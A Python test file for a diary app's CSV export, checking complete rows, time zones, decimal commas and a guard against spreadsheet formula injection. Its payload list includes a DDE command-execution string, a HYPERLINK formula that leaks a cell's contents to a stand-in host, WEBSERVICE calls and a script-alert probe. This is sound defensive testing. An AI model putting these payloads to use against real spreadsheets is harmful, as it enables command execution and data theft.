"""The tables hold what the database holds, and what a person typed stays text in a spreadsheet."""

import csv
import io
import json
import random
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from uuid import uuid4

import pytest
import time_machine
from hypothesis import example, given, settings
from hypothesis import strategies as st

from diary import models as diary
from diary.history.timeline import gaps, timeline
from diary.management.examples import log, treat
from summary.export import records
from summary.export.as_csv import _sheet, as_csv, dictionary, guarded, with_semicolons
from summary.export.columns import RECORDS
from summary.export.tables import tables
from tests.config.world import make_diary
from tests.summary.office import needs_office, opened
from tests.summary.tables import WHAT, files_in, plain, read_back, said, stored
from tests.summary.whole import PAYLOADS, live

TODAY = date(2026, 11, 20)
FIRST = TODAY - timedelta(days=40)
SIGNS = "=+-@\t\r\0\n|%＝＋－＠−﹦﹢﹣﹫'\"\\"
BLANKS = [
    "",
    " ",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u202e",
    "\u2028",
    "\t",
    "\r\n",
    "\0",
    "'",
]
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"click")', "SUM(A1:A9)",
    "WEBSERVICE(A1)", "A1", "2+5+cmd|' /C calc'!A0", "10", "38.4", "1/2", "TRUE()", "IF(1,2,3)",
    "<script>alert(1)</script>", "#let x = 1", "x\";=1+1;\"", "x\n=1+1", "{=1+1}", "2026-11-20",
]  # fmt: skip


def payloads(count: int) -> list[str]:
    dice = random.Random(7)  # noqa: S311 (made-up data)
    made = [f"{blank}{sign}{body}" for blank in BLANKS for sign in SIGNS for body in BODIES]
    return dice.sample(made, count)


def full(patient, owner, writer, *, seed: int = 5):
    treat(patient, TODAY)
    log(patient, FIRST, TODAY, seed=seed, users=[owner, writer])
    return patient


@pytest.mark.parametrize("seed", [1, 2])
def test_every_row_of_the_database_is_in_a_table_with_every_value(patient, owner, writer, seed):
    """Hostile words in every text, and zones that changed, included."""
    live(patient, [owner, writer], seed)
    found = read_back(as_csv(records(patient)))
    for table in WHAT:
        assert said(patient, table, found[table]) == stored(patient, table), table
    assert len(found["version_findings"]) > 10
    assert any(text in PAYLOADS for text in (line["text"] for line in found["questions"]))


def test_a_diary_with_a_row_of_every_kind_is_complete(stranger):
    patient = make_diary(stranger, "Bo").patient
    found = read_back(as_csv(records(patient)))
    for table in WHAT:
        assert found[table] or table == "photo_removal", table
        assert said(patient, table, found[table]) == stored(patient, table), table
    look = diary.Look.objects.earliest("at")
    assert json.loads(found["looks"][0]["strokes"]) == look.strokes
    assert found["look_answers"][0]["asked"] == look.answers[0]["asked"]
    cited = diary.Finding.objects.first().citations[0]
    assert cited in [{n: line[n] for n in cited} for line in found["finding_citations"]]


def test_gaps_authors_and_zones_are_said(patient, owner, writer):
    full(patient, owner, writer)
    found = read_back(as_csv(records(patient, FIRST, TODAY)))
    runs = gaps(timeline(patient, FIRST, TODAY).days)
    assert [(g["first"], g["last"]) for g in found["gaps"]] == [(r.first, r.last) for r in runs]
    assert {line["by_name"] for line in found["check_ins"]} == {"Dad", "Grandma"}
    for line in found["check_ins"]:
        assert line["at"] == line["at_local"]
        assert line["at"].utcoffset() == timedelta(0)
        assert line["at_local"].date() == line["local_day"]


def test_a_dose_without_a_zone_of_its_own_has_the_clock_of_the_diary(patient):
    """A file that is brought in may say none."""
    treat(patient, TODAY)
    for model in (diary.Course, diary.Dose):
        model.objects.update(zone="")
    patient.zone = "Asia/Kathmandu"
    [dose, *_] = read_back(as_csv(records(patient)))["course_doses"]
    assert dose["started_local"].utcoffset() == timedelta(hours=5, minutes=45)


def test_the_same_diary_gives_the_same_bytes(patient, owner, writer):
    full(patient, owner, writer)
    found = records(patient)
    files = set()
    for day in (1, 2):
        with time_machine.travel(datetime(2026, 12, day, 12, tzinfo=UTC)):
            files.add(as_csv(found))
    assert len(files) == 1


def test_every_column_has_a_meaning_and_numbers_have_units():
    for table, column, kind, unit, meaning, _ in dictionary():
        assert meaning.endswith("."), (table, column)
        assert not ("temperature" in column and not unit), (table, column)
        assert kind
    assert len(tables()) > 20


@settings(max_examples=1000, deadline=None)
@given(st.text())
@example("'")
@example("'\\0")
@example("\\2026-11-20")
@example("\0\\0'")
@example("\\\0")
def test_a_guarded_text_is_the_same_once_the_mark_is_off(text):
    assert plain(guarded(text)) == text
    assert "\0" not in guarded(text)


def test_no_payload_begins_a_cell():
    for text in payloads(2000):
        assert guarded(text)[0] not in "=+-@\t\r\0＝＋－＠", text


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("sign", "=+-@＝－﹢")
def test_blanks_hide_no_sign(blank, sign):
    assert guarded(f"{blank}{sign}A1")[0] == "'"


@pytest.mark.parametrize("text", ["Slept badly.", "5 ml", "Mum's idea", "ärztin", "a=b", "38.4 °C"])
def test_ordinary_words_stay_as_they_are(text):
    assert guarded(text) == text


def test_a_phone_number_keeps_its_nought_and_plus():
    assert (guarded("0123 456"), guarded("+44 123")) == ("'0123 456", "'+44 123")


def spreadsheet(tmp_path, found) -> dict[str, list]:
    for name, text in files_in(as_csv(found)).items():
        if name in ("questions.csv", "version_reports.csv", "contacts.csv"):
            (tmp_path / name).write_text(text, encoding="utf-8-sig", newline="")
    return opened(tmp_path)


def test_a_spreadsheet_finds_no_formula_in_two_thousand_payloads(patient, owner, writer, tmp_path):
    needs_office()
    full(patient, owner, writer)
    found = records(patient)
    now = datetime(2026, 11, 20, tzinfo=UTC)
    by = found.authors[0].id
    question = RECORDS.below["questions"].row
    asked = tuple(question(uuid4(), text, by, now, None, ()) for text in payloads(2000))
    sheets = spreadsheet(tmp_path, replace(found, questions=asked))
    cells = [cell for rows in sheets.values() for row in rows for cell in row]
    assert sum(is_formula for _, _, is_formula in cells) == 0
    heading = [text for _, text, _ in sheets["questions"][0]]
    questions = [row[heading.index("text")] for row in sheets["questions"][1:]]
    assert len(questions) == 2000
    assert {kind for kind, _, _ in questions} == {"s"}
    temperatures(sheets["version_reports"], found)


def temperatures(rows, found):
    """Every temperature is a number to the spreadsheet, and the one that was typed."""
    heading = [text for _, text, _ in rows[0]]
    place = heading.index("temperature")
    numbers = [row[place] for row in rows[1:] if len(row) > place and row[place][1]]
    assert {kind for kind, _, _ in numbers} == {"n"}
    typed = [
        report.temperature
        for one in found.check_ins
        for version in one.versions
        for report in version.reports
        if report.temperature is not None
    ]
    assert [float(text) for _, text, _ in numbers] == [float(value) for value in typed]
    assert len(typed) > 20


def test_without_the_guard_the_same_spreadsheet_finds_formulas(tmp_path):
    """Locks off: the payloads are real."""
    needs_office()
    lines = [[text] for text in payloads(2000)]
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(lines)
    raw = text.getvalue().replace("\0", "")
    (tmp_path / "raw.csv").write_text(raw, encoding="utf-8-sig", newline="")
    cells = [cell for row in opened(tmp_path)["raw"] for cell in row]
    assert sum(is_formula for _, _, is_formula in cells) > 10


def test_numbers_stand_bare_and_all_else_in_quotes():
    assert (
        _sheet(["a"], [[Decimal("38.0"), 3, "x", None, True]]).splitlines()[1]
        == '38.0,3,"x","","true"'
    )


def cells_of(raw: bytes, separator: str) -> dict[str, list[list[str]]]:
    files = {name: text for name, text in files_in(raw).items() if name.endswith(".csv")}
    return {
        name: list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        for name, text in files.items()
        if name != "dictionary.csv"
    }


def test_with_semicolons_everything_is_the_same_but_the_comma_before_decimals(
    patient, owner, writer
):
    found = records(full(patient, owner, writer))
    usual, other = cells_of(as_csv(found), ","), cells_of(with_semicolons(found), ";")
    numbers = {(table, column) for table, column, kind, *_ in dictionary() if kind == "number"}
    assert usual.keys() == other.keys()
    commas = 0
    for name, (heading, *rows) in usual.items():
        assert other[name][0] == heading
        for row, there in zip(rows, other[name][1:], strict=True):
            for column, cell, theirs in zip(heading, row, there, strict=True):
                is_number = (name.removesuffix(".csv"), column) in numbers
                assert theirs == (cell.replace(".", ",") if is_number else cell)
                commas += is_number and "," in theirs
    assert commas > 20


def test_with_semicolons_a_formula_stays_text_and_numbers_stand_bare(patient, owner):
    for text in payloads(400):
        sheet = _sheet(["text"], [[text, Decimal("38.4")]], ";")
        [cell, number] = list(csv.reader(io.StringIO(sheet, newline=""), delimiter=";"))[-1]
        assert (plain(cell), number) == (text, "38,4")
        assert cell == guarded(text)
        assert ";38,4" in sheet


def test_the_dictionary_and_the_readme_say_how_numbers_are_written(patient):
    files = files_in(with_semicolons(records(patient)))
    assert "Semicolons stand between the columns" in files["README.txt"]
    assert "after a comma: 38,4" in files["dictionary.csv"]
    assert "Commas stand between" in files_in(as_csv(records(patient)))["README.txt"]
